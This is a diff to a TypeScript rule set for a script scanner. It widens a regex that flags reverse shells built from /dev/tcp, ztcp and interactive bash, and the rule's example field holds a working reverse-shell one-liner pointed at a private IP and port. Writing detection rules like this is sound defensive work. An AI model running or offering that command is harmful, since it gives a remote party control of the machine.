@@ -402,7 +402,7 @@ export const scriptRules: ScriptRule[] = [
     level: "critical",
     trigger: /\/dev\/(tcp|udp)\/|ztcp/,
     pattern:
-      /\bztcp\s+(?!-[lac])\S+\s+\d+.*\b(sh|bash|zsh)\b\s*[0-9]*[<>]&\s*\$|\bexec\s+\d+<>\s*\/dev\/(tcp|udp)\/\S+.*[<>]&\s*\d|\/dev\/(tcp|udp)\/\S+.*\b(sh|bash|zsh|dash|ksh)\b\s*(-i\b|[<>]&)|\b(sh|bash|zsh|dash|ksh)\b\s+-i\b.*\/dev\/(tcp|udp)\//,
+      /\bztcp\s+(?!-[lac])\S+\s+\d+.*\b(sh|bash|zsh)\b(\s+-\w+)*\s*[0-9]*[<>]&\s*\$|\bexec\s+\d+<>\s*\/dev\/(tcp|udp)\/\S+.*[<>]&\s*\d|\/dev\/(tcp|udp)\/\S+.*\b(sh|bash|zsh|dash|ksh)\b\s*(-i\b|[<>]&)|\b(sh|bash|zsh|dash|ksh)\b\s+-i\b.*\/dev\/(tcp|udp)\//,
     message:
       "Connects a shell to a network socket: someone else would control this machine (a reverse shell).",
     example: "exec 5<>/dev/tcp/10.0.0.1/4242; sh <&5 >&5 2>&5",
